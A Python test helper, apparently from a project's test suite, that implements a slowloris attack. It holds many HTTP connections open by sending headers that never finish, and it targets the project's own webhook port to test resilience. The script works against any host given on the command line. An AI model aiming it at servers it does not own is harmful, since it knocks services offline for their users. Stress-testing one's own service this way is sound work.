"""A local user without credentials holding a server's connections shut.

`python -m tests.slowloris HOST PORT N` keeps N connections open that never
finish their request headers, and reopens each as soon as the server closes
it. It prints `holding N` once N connections have been opened, then runs until
killed. The suite and `bench/` aim it at the responder's webhook port.
"""

from __future__ import annotations

import asyncio
import sys

PARTIAL = b"POST /api/v1/alerts HTTP/1.1\r\nHost: warden\r\nContent-Type: application/json\r\n"


async def _hold(host: str, port: int, opened: asyncio.Queue[None]) -> None:
    while True:
        try:
            reader, writer = await asyncio.open_connection(host, port)
        except OSError:
            await asyncio.sleep(0.01)
            continue
        try:
            writer.write(PARTIAL)  # and never the blank line that ends the headers
            await writer.drain()
            opened.put_nowait(None)
            await reader.read()  # until the server closes it (or answers 503)
        except OSError:
            pass
        finally:
            writer.close()


async def main(host: str, port: int, n: int) -> None:
    opened: asyncio.Queue[None] = asyncio.Queue()
    tasks = [asyncio.create_task(_hold(host, port, opened)) for _ in range(n)]
    for _ in range(n):
        await opened.get()
    print(f"holding {n}", flush=True)
    await asyncio.gather(*tasks)


if __name__ == "__main__":
    asyncio.run(main(sys.argv[1], int(sys.argv[2]), int(sys.argv[3])))
